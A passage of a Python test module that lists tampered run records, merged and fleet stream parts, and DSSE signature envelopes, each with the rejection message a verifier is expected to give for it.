    ("other runs in a merged one", "merged", in_stream(lambda lines: put(line(lines, "joined")["runs"][0], id="ffffffff"), listed=True), "targets/a: it is of another run"),
    ("a merged part of another day", "merged", other("a", seed=1, as_of=date(2030, 1, 1)), "targets/a: it is judged as on another day"),
    ("a merged part of another seed", "merged", other("a", run=streams.head(seed=1).run, seed=9), "targets/a: "),
    ("waivers in a part", "fleet", in_part("b", made_up(lambda lines: lines.insert(-1, ACCEPTED))), "targets/b: it has other settings"),
    ("waivers beside the parts", "fleet", in_stream(lambda lines: lines.insert(1, ACCEPTED)), "that the stream of a run in parts has not"),
    ("a part on another machine", "fleet", other("b", part=True, environment=replace(streams.head().environment, python="x")), "targets/b: it is not a part of the run"),
    ("nothing selected in the whole", "fleet", in_stream(lambda lines: put(line(lines, "end"), nothing_selected=True)), "its end is not that of a run in parts"),
    ("joined to nothing", "fleet", in_stream(lambda lines: lines.insert(1, {"joined": {"runs": []}})), "it joins no runs"),
    ("a merged seed", "merged", in_stream(lambda lines: put(head(lines), seed=99)), "its head is not that of the runs"),
    ("a merged end", "merged", in_stream(lambda lines: put(line(lines, "end"), finished="2020-01-01T00:00:00.000Z")), "it ended at another time"),
    ("a merged beginning", "merged", in_stream(lambda lines: put(head(lines), started="2020-01-01T00:00:00.000Z")), "its head is not that of the runs"),
    ("a shard left out", "merged", in_stream(lambda lines: [put(run, shard={"number": number, "of": 3, "targets": 3, "list_sha256": "a" * 64}) for number, run in enumerate(line(lines, "joined")["runs"], 1)]), "it lacks a shard"),
    ("a part that was not signed", "fleet", in_part("b", replaced(ENVELOPE, gone)), "targets/b: it is not signed"),
]  # fmt: skip


# ---- signatures


def pae(kind: bytes, payload: bytes) -> bytes:
    """What DSSE signs."""
    return b"DSSEv1 %d %s %d %s" % (len(kind), kind, len(payload), payload)


SIGNATURES: list[Row] = [
    ("none", "one", signed_again(lambda one, sign: put(one, signatures=[])), "is not signed with the key"),
    ("no list", "one", signed_again(lambda one, sign: put(one, signatures={"sig": "x"})), "is not signed with the key"),
    ("of nothing", "one", signed_again(lambda one, sign: put(one["signatures"][0], sig="")), "is not signed with the key"),
    ("that is no text", "one", signed_again(lambda one, sign: put(one["signatures"][0], sig=1)), "is not signed with the key"),
    ("of another payload", "one", signed_again(lambda one, sign: put(one, payload="e30=")), "is not signed with the key"),
    ("of another type", "one", signed_again(lambda one, sign: put(one, payloadType="text/plain")), "is not signed with the key"),
    ("that holds, of another type", "one", signed_again(lambda one, sign: put(one, payload="e30=", payloadType="text/plain", signatures=[{"sig": sign(pae(b"text/plain", b"{}"))}])), "is not signed with the key"),
    ("that holds, of another statement", "one", signed_again(lambda one, sign: put(one, payload="e30=", signatures=[{"sig": sign(pae(b"application/vnd.in-toto+json", b"{}"))}])), "signs another attestation than"),
    ("of the payload alone", "one", signed_again(lambda one, sign: put(one["signatures"][0], sig=sign(b"{}"))), "is not signed with the key"),
    ("with a payload that is no text", "one", signed_again(lambda one, sign: put(one, payload=1)), "is not signed with the key"),
    ("with a payload that is no base64", "one", signed_again(lambda one, sign: put(one, payload="?")), "is not signed with the key"),
    ("an envelope that is a list", "one", in_bytes(ENVELOPE, lambda data: b"[]"), "is not a JSON object"),
    ("a fleet without one", "fleet", replaced(ENVELOPE, gone), "it is not signed"),
]  # fmt: skip

TABLES = {
    "edited": EDITED,
    "head": HEADS,
    "impossible": IMPOSSIBLE,
    "JSON": WRITTEN_OTHERWISE,
    "file": NOT_FILES,
    "parts": PARTS,
    "signature": SIGNATURES,
}
ATTACKS = {f"{kind}: {row[0]}": row for kind, rows in TABLES.items() for row in rows}
